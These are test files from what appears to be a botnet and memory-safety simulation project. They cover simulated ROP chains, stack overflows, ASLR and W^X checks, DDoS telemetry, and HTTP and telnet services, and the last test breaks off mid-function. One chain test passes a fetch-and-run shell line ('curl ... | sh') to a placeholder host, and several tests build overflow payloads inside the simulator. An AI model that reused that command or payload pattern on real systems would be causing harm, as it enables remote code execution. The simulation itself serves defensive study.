        one = GadgetTable.discover(5, TEXT_BASE)
        two = GadgetTable.discover(5, TEXT_BASE)
        assert one.addresses == two.addresses

    def test_different_builds_differ(self):
        one = GadgetTable.discover(5, TEXT_BASE)
        two = GadgetTable.discover(6, TEXT_BASE)
        assert one.addresses != two.addresses

    def test_all_ops_present_inside_text(self, gadgets):
        for op in ALL_OPS:
            address = gadgets.address_of(op)
            assert TEXT_BASE <= address < TEXT_BASE + 0x40000

    def test_reverse_lookup(self, gadgets):
        for op, address in gadgets.addresses.items():
            assert gadgets.by_address[address] == op


class TestChainExecution:
    def test_execlp_chain_roundtrip(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "curl -s http://x | sh"])
        outcome = interpreter(gadgets).run(first, spill)
        assert outcome.succeeded
        assert outcome.syscall.name == "execlp"
        assert list(outcome.syscall.args) == ["sh", "sh", "-c", "curl -s http://x | sh"]

    def test_chain_with_fewer_args(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("reboot", [])
        outcome = interpreter(gadgets).run(first, spill)
        assert outcome.succeeded
        assert list(outcome.syscall.args) == ["reboot"]

    def test_too_many_args_rejected(self, gadgets):
        with pytest.raises(ValueError):
            ChainBuilder(gadgets).execlp_chain("sh", ["a", "b", "c", "d"])

    def test_chain_through_stack_frame(self, gadgets):
        """The full overflow payload drives a hijacked frame end to end."""
        builder = ChainBuilder(gadgets)
        payload = builder.overflow_payload(64, "sh", ["sh", "-c", "id"])
        frame = StackFrame("parse", 64, return_address=TEXT_BASE + 0x1234)
        event = frame.copy_unchecked(payload)
        assert frame.hijacked
        outcome = interpreter(gadgets).run(frame.return_address, event.spill)
        assert outcome.succeeded
        assert outcome.syscall.args[-1] == "id"


class TestAslrInteraction:
    def test_correct_slide_succeeds(self, gadgets):
        slide = 0x7F3000
        builder = ChainBuilder(gadgets, slide=slide)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=slide).run(first, spill)
        assert outcome.succeeded

    def test_wrong_slide_crashes(self, gadgets):
        builder = ChainBuilder(gadgets, slide=0)  # attacker assumes no ASLR
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=0x7F3000).run(first, spill)
        assert not outcome.succeeded
        assert outcome.kind == "crash"

    def test_slightly_wrong_slide_crashes(self, gadgets):
        builder = ChainBuilder(gadgets, slide=0x1000)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=0x2000).run(first, spill)
        assert not outcome.succeeded


class TestWxInteraction:
    def test_shellcode_on_stack_faults_under_wx(self, gadgets):
        """Return-into-stack (code injection) dies on a W^X build."""
        stack_address = 0x7FFF_F000_0100
        outcome = interpreter(gadgets, wx=True).run(stack_address, b"\x90" * 64)
        assert outcome.kind == "crash"
        assert "non-executable" in outcome.crash_reason

    def test_shellcode_reaches_execution_without_wx(self, gadgets):
        """On a no-NX build the stack is executable: the fetch succeeds
        (and then fails only because stack bytes are not our gadgets)."""
        stack_address = 0x7FFF_F000_0100
        outcome = interpreter(gadgets, wx=False).run(stack_address, b"\x90" * 64)
        assert outcome.kind == "crash"
        assert "non-gadget" in outcome.crash_reason

    def test_rop_succeeds_regardless_of_wx(self, gadgets):
        """ROP reuses text-segment code, so W^X cannot stop it — the
        paper's reason for using ROP in the first place."""
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        assert interpreter(gadgets, wx=True).run(first, spill).succeeded


class TestMalformedChains:
    def test_return_to_unmapped_crashes(self, gadgets):
        outcome = interpreter(gadgets).run(0xDEAD_0000_0000, b"")
        assert outcome.kind == "crash"
        assert "unmapped" in outcome.crash_reason

    def test_return_to_non_gadget_text_crashes(self, gadgets):
        non_gadget = TEXT_BASE + 0x33
        assert non_gadget not in gadgets.by_address
        outcome = interpreter(gadgets).run(non_gadget, b"")
        assert outcome.kind == "crash"

    def test_truncated_spill_crashes(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets).run(first, spill[:8])
        assert outcome.kind == "crash"

    def test_execlp_without_registers_crashes(self, gadgets):
        first = gadgets.address_of("call execlp")
        outcome = interpreter(gadgets).run(first, b"")
        assert outcome.kind == "crash"
        assert "uninitialized" in outcome.crash_reason

    def test_bad_string_reference_crashes(self, gadgets):
        # Chain: pop rdi <junk-pointer>, then execlp.
        chain = (
            pack_qword(0x1234)  # operand for first pop: not a tagged ref
            + pack_qword(gadgets.address_of("pop rsi ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("pop rdx ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("pop rcx ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("call execlp"))
            + b"sh\x00"
        )
        first = gadgets.address_of("pop rdi ; ret")
        outcome = interpreter(gadgets).run(first, chain)
        assert outcome.kind == "crash"
        assert "junk" in outcome.crash_reason

    def test_runaway_chain_terminates(self, gadgets):
        ret = gadgets.address_of("ret")
        spill = pack_qword(ret) * 200
        outcome = interpreter(gadgets).run(ret, spill)
        assert outcome.kind == "crash"
        assert "runaway" in outcome.crash_reason

    def test_out_of_range_string_offset_crashes(self, gadgets):
        chain = (
            pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rsi ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rdx ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rcx ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("call execlp"))
        )
        first = gadgets.address_of("pop rdi ; ret")
        outcome = interpreter(gadgets).run(first, chain)
        assert outcome.kind == "crash"
