"""Tests for the observability layer (repro.obs)."""

import json

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.core.telemetry import TelemetrySampler
from repro.netsim.simulator import Simulator
from repro.obs import (
    EventTracer,
    MetricsRegistry,
    NULL_OBSERVATORY,
    NULL_TRACER,
    Observatory,
    SchedulerProfiler,
)
from repro.obs.profiler import site_of


class TestCounter:
    def test_starts_at_zero_and_increments(self):
        registry = MetricsRegistry()
        counter = registry.counter("requests_total")
        assert counter.value == 0.0
        counter.inc()
        counter.inc(4)
        assert counter.value == 5.0
        assert registry.value("requests_total") == 5.0

    def test_registration_is_idempotent(self):
        registry = MetricsRegistry()
        first = registry.counter("x_total")
        first.inc()
        again = registry.counter("x_total")
        assert again is first
        assert again.value == 1.0

    def test_kind_conflict_raises(self):
        registry = MetricsRegistry()
        registry.counter("x_total")
        with pytest.raises(ValueError):
            registry.gauge("x_total")

    def test_labeled_family(self):
        registry = MetricsRegistry()
        family = registry.counter("exploits_total", labels=("vector",))
        family.labels("dns").inc()
        family.labels("dns").inc()
        family.labels("dhcp6").inc()
        snapshot = registry.snapshot()
        assert snapshot["counters"]["exploits_total"] == {
            "vector=dns": 2.0,
            "vector=dhcp6": 1.0,
        }

    def test_label_arity_mismatch_raises(self):
        registry = MetricsRegistry()
        family = registry.counter("x_total", labels=("a", "b"))
        with pytest.raises(ValueError):
            family.labels("only-one")


class TestGauge:
    def test_set_inc_dec(self):
        gauge = MetricsRegistry().gauge("depth")
        gauge.set(10)
        gauge.inc(5)
        gauge.dec(3)
        assert gauge.value == 12.0

    def test_callback_gauge_reads_live(self):
        state = {"n": 3}
        gauge = MetricsRegistry().gauge("live", fn=lambda: state["n"])
        assert gauge.value == 3.0
        state["n"] = 7
        assert gauge.value == 7.0

    def test_set_clears_callback(self):
        gauge = MetricsRegistry().gauge("live", fn=lambda: 99)
        gauge.set(1)
        assert gauge.value == 1.0


class TestHistogram:
    def test_observations_and_cumulative_buckets(self):
        histogram = MetricsRegistry().histogram(
            "latency", buckets=(0.1, 1.0, 10.0)
        )
        for value in (0.05, 0.5, 0.5, 5.0, 50.0):
            histogram.observe(value)
        assert histogram.count == 5
        assert histogram.sum == pytest.approx(56.05)
        buckets = histogram.bucket_dict()
        assert buckets["0.1"] == 1       # 0.05
        assert buckets["1"] == 3         # + two 0.5s
        assert buckets["10"] == 4        # + 5.0
        assert buckets["+Inf"] == 5      # + 50.0
        assert histogram.mean() == pytest.approx(56.05 / 5)

    def test_snapshot_shape(self):
        registry = MetricsRegistry()
        registry.histogram("h", buckets=(1.0,)).observe(0.5)
        stats = registry.snapshot()["histograms"]["h"][""]
        assert stats["count"] == 1
        assert set(stats["buckets"]) == {"1", "+Inf"}


class TestRegistryExport:
    def test_delta_subtracts_counters_keeps_gauges(self):
        registry = MetricsRegistry()
        counter = registry.counter("c_total")
        gauge = registry.gauge("g")
        counter.inc(3)
        gauge.set(10)
        before = registry.snapshot()
        counter.inc(4)
        gauge.set(20)
        delta = MetricsRegistry.delta(before, registry.snapshot())
        assert delta["counters"]["c_total"][""] == 4.0
        assert delta["gauges"]["g"][""] == 20.0

    def test_json_and_csv_round_trip(self):
        registry = MetricsRegistry()
        registry.counter("c_total").inc()
        parsed = json.loads(registry.to_json())
        assert parsed["counters"]["c_total"][""] == 1.0
        csv = registry.to_csv()
        assert csv.splitlines()[0] == "kind,name,labels,field,value"
        assert "counter,c_total,,value,1" in csv


class TestEventTracer:
    def test_emit_and_merged_time_order(self):
        tracer = EventTracer()
        tracer.emit("b.late", 2.0, x=1)
        tracer.emit("a.early", 1.0)
        names = [event.name for event in tracer.events()]
        assert names == ["a.early", "b.late"]
        assert tracer.events("b.late")[0].fields == {"x": 1}

    def test_ring_eviction_is_per_type_and_counted(self):
        tracer = EventTracer(capacity_per_type=3)
        for i in range(10):
            tracer.emit("chatty", float(i))
        tracer.emit("rare", 100.0)
        # chatty keeps only the newest 3; rare survives untouched.
        assert [e.t for e in tracer.events("chatty")] == [7.0, 8.0, 9.0]
        assert len(tracer.events("rare")) == 1
        assert tracer.evicted["chatty"] == 7
        assert tracer.counts() == {"chatty": 10, "rare": 1}

    def test_jsonl_export(self):
        tracer = EventTracer()
        tracer.emit("x", 1.5, detail="hi")
        record = json.loads(tracer.to_jsonl().splitlines()[0])
        assert record["event"] == "x"
        assert record["t"] == 1.5
        assert record["detail"] == "hi"

    def test_jsonl_filters_by_name_since_and_limit(self):
        tracer = EventTracer()
        for i in range(5):
            tracer.emit("chatty", float(i))
        tracer.emit("rare", 2.5)
        by_name = tracer.to_jsonl(names=("rare",)).splitlines()
        assert [json.loads(l)["event"] for l in by_name] == ["rare"]
        since = tracer.to_jsonl(since=3.0).splitlines()
        assert [json.loads(l)["t"] for l in since] == [3.0, 4.0]
        # limit keeps the *newest* N matching events
        limited = tracer.to_jsonl(names=("chatty",), limit=2).splitlines()
        assert [json.loads(l)["t"] for l in limited] == [3.0, 4.0]
        # a limit beyond the match count keeps everything (regression:
        # the slice must not wrap around to a negative index)
        assert len(tracer.to_jsonl(names=("chatty",), limit=99).splitlines()) == 5
        combined = tracer.to_jsonl(names=("chatty",), since=1.0, limit=99)
        assert len(combined.splitlines()) == 4

    def test_jsonl_leads_with_eviction_summary_when_truncated(self):
        tracer = EventTracer(capacity_per_type=2)
        for i in range(5):
            tracer.emit("chatty", float(i))
        lines = tracer.to_jsonl().splitlines()
        summary = json.loads(lines[0])
        assert summary["event"] == "trace.evictions"
        assert summary["evicted"] == {"chatty": 3}
        assert summary["total_evicted"] == 3
        assert len(lines) == 3  # summary + the 2 retained events
        # An untruncated trace carries no summary line.
        clean = EventTracer()
        clean.emit("x", 1.0)
        assert json.loads(clean.to_jsonl().splitlines()[0])["event"] == "x"
        assert clean.eviction_summary() is None

    def test_chrome_export_carries_eviction_counts(self):
        tracer = EventTracer(capacity_per_type=1)
        tracer.emit("chatty", 1.0)
        tracer.emit("chatty", 2.0)
        document = json.loads(tracer.to_chrome_json())
        assert document["otherData"]["evicted"] == {"chatty": 1}

    def test_chrome_trace_shape(self):
        tracer = EventTracer()
        tracer.emit("queue.drop", 0.25, queue="q0")
        tracer.emit("cnc.recruit", 1.0, bot_id=3)
        document = json.loads(tracer.to_chrome_json())
        events = document["traceEvents"]
        metadata = [e for e in events if e["ph"] == "M"]
        instants = [e for e in events if e["ph"] == "i"]
        assert {m["args"]["name"] for m in metadata} == {"queue.drop", "cnc.recruit"}
        drop = next(e for e in instants if e["name"] == "queue.drop")
        assert drop["ts"] == pytest.approx(250_000)  # virtual s -> µs
        assert drop["cat"] == "queue"
        assert drop["args"]["queue"] == "q0"
        # one lane per event type
        assert len({e["tid"] for e in instants}) == 2

    def test_null_tracer_is_inert(self):
        assert NULL_TRACER.enabled is False
        NULL_TRACER.emit("anything", 1.0, huge="payload")
        assert NULL_TRACER.events() == []
        assert NULL_TRACER.counts() == {}
        assert json.loads(NULL_TRACER.to_chrome_json())["traceEvents"] == []


class TestSchedulerProfiler:
    def test_records_sites_and_heap_high_water(self):
        profiler = SchedulerProfiler()
        profiler.start_run()
        profiler.record(self.test_records_sites_and_heap_high_water, 0.002)
        profiler.record(self.test_records_sites_and_heap_high_water, 0.001)
        profiler.observe_heap_depth(42)
        site = site_of(self.test_records_sites_and_heap_high_water)
        stats = {row["site"]: row for row in profiler.table()}
        assert stats[site]["fires"] == 2
        assert stats[site]["wall_seconds"] == pytest.approx(0.003)
        assert profiler.heap_high_water == 42
        assert "fires" in profiler.format_table()

    def test_simulator_profiles_when_attached(self):
        sim = Simulator()
        obs = sim.attach_observatory(Observatory.full())
        sim.schedule(1.0, lambda: None)
        sim.schedule(2.0, lambda: None)
        sim.run()
        assert obs.profiler.events == 2
        assert obs.profiler.heap_high_water >= 2
        assert [e.name for e in obs.tracer.events()] == ["sched.fire"] * 2

    def test_bare_simulator_stays_null(self):
        sim = Simulator()
        assert sim.obs is NULL_OBSERVATORY
        assert not sim.obs.instrumented


class TestObservatory:
    def test_default_is_metrics_only(self):
        obs = Observatory()
        assert not obs.instrumented
        assert obs.tracer is NULL_TRACER

    def test_full_is_instrumented(self):
        obs = Observatory.full(trace_capacity=8)
        assert obs.instrumented
        assert obs.tracer.capacity_per_type == 8

    def test_export_folds_in_scheduler_gauges(self):
        obs = Observatory.full()
        obs.profiler.start_run()
        obs.profiler.record(len, 0.001)
        snapshot = obs.export_metrics()
        assert snapshot["gauges"]["sched_events_total"][""] == 1.0
        assert "sched_heap_high_water" in snapshot["gauges"]


@pytest.fixture(scope="module")
def instrumented_run():
    config = SimulationConfig(
        n_devs=6, seed=11, attack_duration=15.0,
        recruit_timeout=30.0, sim_duration=120.0,
        queue_packets=8,  # small queues so the flood visibly drops
    )
    ddosim = DDoSim(config, observatory=Observatory.full())
    sampler = TelemetrySampler(ddosim, interval=5.0)
    result = ddosim.run()
    return ddosim, sampler, result


class TestEndToEnd:
    def test_expected_event_types_present(self, instrumented_run):
        ddosim, _sampler, _result = instrumented_run
        types = set(ddosim.obs.tracer.event_types())
        assert {"sched.fire", "link.tx", "queue.drop",
                "container.spawn", "cnc.recruit", "exploit.attempt",
                "exploit.success"} <= types

    def test_recruit_events_match_result(self, instrumented_run):
        ddosim, _sampler, result = instrumented_run
        recruits = ddosim.obs.tracer.events("cnc.recruit")
        assert len(recruits) == result.recruitment.bots_recruited == 6

    def test_metrics_cover_all_subsystems(self, instrumented_run):
        ddosim, _sampler, _result = instrumented_run
        snapshot = ddosim.obs.export_metrics()
        counters, gauges = snapshot["counters"], snapshot["gauges"]
        assert counters["queue_drops_total"][""] > 0
        assert counters["container_spawns_total"][""] >= 7  # devs + attacker
        assert counters["cnc_recruits_total"][""] == 6
        assert counters["link_tx_packets_total"][""] > 0
        assert gauges["sched_events_total"][""] > 0

    def test_queue_drop_counter_matches_star_accounting(self, instrumented_run):
        ddosim, _sampler, result = instrumented_run
        assert (
            ddosim.obs.metrics.value("queue_drops_total")
            == ddosim.star.total_queue_drops()
            == result.attack.queue_drops
        )

    def test_telemetry_sources_from_registry(self, instrumented_run):
        _ddosim, sampler, result = instrumented_run
        series = sampler.series
        assert series.samples[0].received_rate_kbps == 0.0  # no interval yet
        assert series.infection_curve()[-1] == result.recruitment.bots_recruited
        assert series.samples[-1].queue_drops_total == result.attack.queue_drops
        header = series.to_csv().splitlines()[0]
        assert header.split(",") == [
            "time", "bots_connected", "devs_online", "distinct_recruits",
            "tserver_rx_bytes_total", "received_rate_kbps",
            "container_memory_bytes", "queue_drops_total",
        ]
        first = json.loads(series.to_jsonl().splitlines()[0])
        assert first["time"] == 0.0

    def test_chrome_trace_loads_and_spans_subsystems(self, instrumented_run, tmp_path):
        ddosim, _sampler, _result = instrumented_run
        path = tmp_path / "trace.json"
        ddosim.obs.write_trace_chrome(str(path))
        document = json.loads(path.read_text())
        instants = [e for e in document["traceEvents"] if e.get("ph") == "i"]
        assert len({e["name"] for e in instants}) >= 3


class TestTapLifecycle:
    def test_capture_and_monitor_detach(self, sim, star):
        from repro.netsim.node import Node
        from repro.netsim.tracing import FlowMonitor, PacketCapture

        node = Node(sim, "n0")
        star.attach_host(node, 1e6)
        taps_before = len(node.ip.delivery_taps)
        with PacketCapture(node) as capture, FlowMonitor(node) as monitor:
            assert len(node.ip.delivery_taps) == taps_before + 2
        assert len(node.ip.delivery_taps) == taps_before
        capture.close()  # idempotent
        monitor.close()
        assert len(node.ip.delivery_taps) == taps_before
