"""Tests for the table/figure sweep runners on tiny grids."""

import pytest

from repro.core.config import SimulationConfig
from repro.core.experiment import (
    run_figure2,
    run_figure3,
    run_figure4,
    run_recruitment,
    run_table1,
)


def tiny_base():
    return SimulationConfig(
        n_devs=2,
        seed=1,
        attack_duration=10.0,
        recruit_timeout=30.0,
        sim_duration=120.0,
    )


class TestFigure2Runner:
    @pytest.fixture(scope="class")
    def rows(self):
        return run_figure2(
            devs_grid=(3, 6), churn_modes=("none", "static"),
            base_config=tiny_base(),
        )

    def test_grid_coverage(self, rows):
        assert len(rows) == 4
        assert {(row["churn"], row["n_devs"]) for row in rows} == {
            ("none", 3), ("none", 6), ("static", 3), ("static", 6),
        }

    def test_rate_grows_with_devices(self, rows):
        by_key = {(row["churn"], row["n_devs"]): row for row in rows}
        assert (
            by_key[("none", 6)]["avg_received_kbps"]
            > by_key[("none", 3)]["avg_received_kbps"]
        )

    def test_no_churn_at_least_matches_static(self, rows):
        by_key = {(row["churn"], row["n_devs"]): row for row in rows}
        for n in (3, 6):
            assert (
                by_key[("none", n)]["avg_received_kbps"]
                >= by_key[("static", n)]["avg_received_kbps"]
            )


class TestFigure3Runner:
    def test_duration_sweep_shape(self):
        rows = run_figure3(
            devs_grid=(3,), durations=(8.0, 16.0), base_config=tiny_base()
        )
        assert len(rows) == 2
        short, long = rows
        # Total received volume grows with duration (the Figure 3 claim is
        # about magnitude growth with attack length).
        assert long["received_mbit_total"] > short["received_mbit_total"]


class TestTable1Runner:
    def test_rows_and_monotonicity(self):
        rows = run_table1(devs_grid=(2, 5), base_config=tiny_base())
        assert [row["n_devs"] for row in rows] == [2, 5]
        assert rows[1]["pre_attack_mem_gb"] > rows[0]["pre_attack_mem_gb"]
        assert rows[1]["attack_mem_gb"] >= rows[1]["pre_attack_mem_gb"]
        for row in rows:
            minutes, seconds = row["attack_time"].split(":")
            assert int(minutes) * 60 + int(seconds) > 10  # > attack duration


class TestFigure4Runner:
    def test_divergence_reported(self):
        rows = run_figure4(devs_grid=(2,), attack_duration=10.0,
                           base_config=tiny_base())
        assert len(rows) == 1
        row = rows[0]
        assert row["hardware_kbps"] > 0
        assert row["ddosim_kbps"] > 0
        assert row["relative_divergence"] < 0.5


class TestRecruitmentRunner:
    def test_hundred_percent_everywhere(self):
        rows = run_recruitment(n_devs=2, base_config=tiny_base())
        assert len(rows) == 8  # 2 binaries x 4 protection profiles
        assert all(row["infection_rate"] == 1.0 for row in rows)
