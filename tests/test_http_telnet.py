"""Integration-level tests for the HTTP file server and telnet console."""

import pytest

from repro.netsim.process import SimProcess
from repro.services.http import HttpError, HttpFileServer, http_get
from repro.services.telnet import TelnetServer, telnet_exec
from tests.helpers import MiniNet


def run(mininet, generator, until=120.0, name="client"):
    process = SimProcess(mininet.sim, generator, name=name)
    mininet.sim.run(until=until)
    assert process.done, f"{name} still pending at t={until}"
    if process.error is not None:
        raise process.error
    return process.value


class TestHttpFileServer:
    def make_server(self, mininet, files):
        server = HttpFileServer(root="/var/www")
        container, node, _link = mininet.host_container(
            "webserver",
            rate_bps=10e6,
            files={"/usr/sbin/apache2": (b"\x7fapache", 0o755, server.program())},
        )
        for path, data in files.items():
            container.fs.write_file(f"/var/www{path}", data)
        container.exec_run(["/usr/sbin/apache2"])
        return server, node

    def test_get_existing_file(self):
        mininet = MiniNet()
        server, web_node = self.make_server(mininet, {"/bins/tool": b"BINARY" * 100})
        _container, client_node, _ = mininet.host_container("client", rate_bps=10e6)

        def client():
            response = yield from http_get(
                mininet.runtime.containers["client"].netns,
                mininet.star.address_of(web_node),
                80,
                "/bins/tool",
            )
            return response

        response = run(mininet, client())
        assert response.ok
        assert response.body == b"BINARY" * 100
        assert server.requests_served == 1

    def test_get_missing_file_404(self):
        mininet = MiniNet()
        server, web_node = self.make_server(mininet, {})
        mininet.host_container("client", rate_bps=10e6)

        def client():
            return (
                yield from http_get(
                    mininet.runtime.containers["client"].netns,
                    mininet.star.address_of(web_node),
                    80,
                    "/absent",
                )
            )

        response = run(mininet, client())
        assert response.status == 404
        assert server.requests_failed == 1

    def test_concurrent_requests(self):
        mininet = MiniNet()
        _server, web_node = self.make_server(
            mininet, {f"/f{i}": bytes([i]) * 50 for i in range(4)}
        )
        results = []
        for index in range(4):
            container, _node, _ = mininet.host_container(f"client{index}", rate_bps=10e6)

            def client(i=index, netns=container.netns):
                response = yield from http_get(
                    netns, mininet.star.address_of(web_node), 80, f"/f{i}"
                )
                results.append((i, response.body))

            SimProcess(mininet.sim, client(), name=f"client{index}")
        mininet.sim.run(until=60.0)
        assert sorted(results) == [(i, bytes([i]) * 50) for i in range(4)]

    def test_connection_refused_surfaces(self):
        mininet = MiniNet()
        _server, web_node = self.make_server(mininet, {})
        mininet.host_container("client", rate_bps=10e6)

        def client():
            with pytest.raises(ConnectionError):
                yield from http_get(
                    mininet.runtime.containers["client"].netns,
                    mininet.star.address_of(web_node),
                    8080,  # nothing listens here
                    "/x",
                )

        run(mininet, client())


class TestTelnetConsole:
    def make_console(self, mininet, handler):
        console = TelnetServer(port=2323, username="root", password="hunter2")
        console.handler = handler
        container, node, _ = mininet.host_container(
            "console-host",
            rate_bps=10e6,
            files={"/usr/sbin/telnetd": (b"\x7ftelnetd", 0o755, console.program())},
        )
        container.exec_run(["/usr/sbin/telnetd"])
        return console, node

    def test_login_and_command(self):
        mininet = MiniNet()
        console, host = self.make_console(mininet, lambda line: f"echo:{line}")
        client_container, _n, _ = mininet.host_container("client", rate_bps=10e6)

        def client():
            return (
                yield from telnet_exec(
                    client_container.netns,
                    mininet.star.address_of(host),
                    2323,
                    "root",
                    "hunter2",
                    ["status", "bots"],
                )
            )

        replies = run(mininet, client())
        assert replies == ["echo:status", "echo:bots"]
        assert console.sessions_opened == 1

    def test_bad_password_rejected(self):
        mininet = MiniNet()
        console, host = self.make_console(mininet, lambda line: "never")
        client_container, _n, _ = mininet.host_container("client", rate_bps=10e6)

        def client():
            with pytest.raises(ConnectionError):
                yield from telnet_exec(
                    client_container.netns,
                    mininet.star.address_of(host),
                    2323,
                    "root",
                    "wrong",
                    ["status"],
                )

        run(mininet, client())
        assert console.logins_failed == 1

    def test_no_handler_reports_no_shell(self):
        mininet = MiniNet()
        console, host = self.make_console(mininet, None)
        console.handler = None
        client_container, _n, _ = mininet.host_container("client", rate_bps=10e6)

        def client():
            return (
                yield from telnet_exec(
                    client_container.netns,
                    mininet.star.address_of(host),
                    2323,
                    "root",
                    "hunter2",
                    ["anything"],
                )
            )

        assert run(mininet, client()) == ["no shell"]
