"""Unit + property tests for the memory-safety substrate:
address spaces, W^X, ASLR, stack smashing."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.memsafety.aslr import aslr_slide, slide_for
from repro.memsafety.layout import (
    AddressSpace,
    MemoryRegion,
    PAGE_SIZE,
    SegmentationFault,
    standard_process_layout,
)
from repro.memsafety.stack import SAVED_SLOT_SIZE, StackFrame


class TestMemoryRegions:
    def test_contains(self):
        region = MemoryRegion("text", 0x400000, 0x1000)
        assert region.contains(0x400000)
        assert region.contains(0x400FFF)
        assert not region.contains(0x401000)

    def test_alignment_enforced(self):
        with pytest.raises(ValueError):
            MemoryRegion("bad", 0x400001, 0x1000)
        with pytest.raises(ValueError):
            MemoryRegion("bad", 0x400000, 0x1001)

    def test_perms_string(self):
        assert MemoryRegion("t", 0, PAGE_SIZE, executable=True).perms() == "r-x"
        assert MemoryRegion("d", 0, PAGE_SIZE, writable=True).perms() == "rw-"


class TestAddressSpace:
    def test_overlapping_regions_rejected(self):
        space = AddressSpace()
        space.map_region(MemoryRegion("a", 0x1000, 0x2000))
        with pytest.raises(ValueError):
            space.map_region(MemoryRegion("b", 0x2000, 0x2000))

    def test_wx_enforcement_blocks_rwx(self):
        space = AddressSpace(wx_enforced=True)
        with pytest.raises(SegmentationFault):
            space.map_region(
                MemoryRegion("rwx", 0x1000, PAGE_SIZE, writable=True, executable=True)
            )

    def test_no_wx_allows_rwx(self):
        space = AddressSpace(wx_enforced=False)
        region = space.map_region(
            MemoryRegion("rwx", 0x1000, PAGE_SIZE, writable=True, executable=True)
        )
        assert region.writable and region.executable

    def test_execute_check(self):
        space = standard_process_layout(0x400000)
        assert space.check_execute(0x400100).name == "text"
        with pytest.raises(SegmentationFault, match="non-executable"):
            space.check_execute(0x5555_0000_0100)  # heap
        with pytest.raises(SegmentationFault, match="unmapped"):
            space.check_execute(0xDEAD_0000_0000)

    def test_write_check(self):
        space = standard_process_layout(0x400000)
        heap = space.region_named("heap")
        assert space.check_write(heap.base).name == "heap"
        with pytest.raises(SegmentationFault, match="read-only"):
            space.check_write(0x400100)

    def test_stack_executable_only_without_wx(self):
        hardened = standard_process_layout(0x400000, wx_enforced=True)
        legacy = standard_process_layout(0x400000, wx_enforced=False)
        assert not hardened.region_named("stack").executable
        assert legacy.region_named("stack").executable

    def test_maps_output(self):
        space = standard_process_layout(0x400000)
        maps = space.maps()
        assert "text" in maps and "stack" in maps
        assert "r-x" in maps

    def test_region_named_missing(self):
        with pytest.raises(KeyError):
            AddressSpace().region_named("nope")


class TestAslr:
    def test_slide_is_page_aligned_and_nonzero(self):
        rng = random.Random(1)
        for _ in range(20):
            slide = aslr_slide(rng)
            assert slide % PAGE_SIZE == 0
            assert slide != 0

    def test_slide_for_disabled_is_zero(self):
        assert slide_for(False, random.Random(1)) == 0

    def test_slide_deterministic_per_seed(self):
        assert aslr_slide(random.Random(9)) == aslr_slide(random.Random(9))

    def test_slides_vary_across_draws(self):
        rng = random.Random(2)
        assert len({aslr_slide(rng) for _ in range(10)}) == 10


class TestStackFrame:
    def make_frame(self, size=64):
        return StackFrame("parse", size, return_address=0x401234)

    def test_checked_copy_truncates(self):
        frame = self.make_frame()
        copied = frame.copy_checked(b"A" * 200)
        assert copied == 64
        assert not frame.hijacked

    def test_in_bounds_copy_is_benign(self):
        frame = self.make_frame()
        event = frame.copy_unchecked(b"B" * 64)
        assert not event.overflowed
        assert not frame.hijacked
        assert frame.return_address == frame.legitimate_return_address

    def test_full_overflow_controls_return_address(self):
        frame = self.make_frame()
        payload = (
            b"A" * 64
            + (0x4242424242424242).to_bytes(8, "little")
            + (0xDEADBEEF).to_bytes(8, "little")
            + b"SPILLDATA"
        )
        event = frame.copy_unchecked(payload)
        assert event.ret_overwritten
        assert frame.hijacked
        assert frame.return_address == 0xDEADBEEF
        assert event.spill == b"SPILLDATA"
        assert frame.saved_rbp == 0x4242424242424242

    def test_partial_rbp_overwrite_corrupts(self):
        frame = self.make_frame()
        event = frame.copy_unchecked(b"A" * 64 + b"\xff\xff")
        assert event.rbp_overwritten
        assert not event.ret_overwritten
        assert not frame.hijacked  # return address untouched

    def test_partial_ret_overwrite_corrupts_but_not_controlled(self):
        frame = self.make_frame()
        payload = b"A" * 64 + b"B" * 8 + b"\x01\x02"  # 2 of 8 ret bytes
        event = frame.copy_unchecked(payload)
        assert not event.ret_overwritten
        assert event.new_return_address is None
        assert frame.return_address != frame.legitimate_return_address

    def test_zero_buffer_rejected(self):
        with pytest.raises(ValueError):
            StackFrame("f", 0, return_address=1)

    @given(st.binary(max_size=300), st.integers(min_value=8, max_value=128))
    def test_overflow_geometry_property(self, data, size):
        """The frame slices overflow bytes exactly: buffer, rbp slot,
        ret slot, spill."""
        frame = StackFrame("f", size, return_address=0x400000)
        event = frame.copy_unchecked(data)
        assert event.copied == len(data)
        assert event.overflowed == (len(data) > size)
        overflow = data[size:]
        assert event.rbp_overwritten == (len(overflow) > 0)
        assert event.ret_overwritten == (len(overflow) >= 2 * SAVED_SLOT_SIZE)
        assert event.spill == overflow[2 * SAVED_SLOT_SIZE:]
        if event.ret_overwritten:
            expected = int.from_bytes(
                overflow[SAVED_SLOT_SIZE: 2 * SAVED_SLOT_SIZE], "little"
            )
            assert frame.return_address == expected
