"""Unit tests for packets and the header stack."""

import pytest

from repro.netsim.address import Ipv4Address, Ipv6Address, MacAddress
from repro.netsim.headers import (
    EthernetHeader,
    Ipv4Header,
    Ipv6Header,
    TCP_ACK,
    TCP_SYN,
    TcpHeader,
    UdpHeader,
    ip_header_for,
)
from repro.netsim.packet import Packet


class TestPacketBasics:
    def test_payload_size_from_bytes(self):
        packet = Packet(b"hello")
        assert packet.payload_size == 5
        assert packet.size == 5

    def test_virtual_payload_size(self):
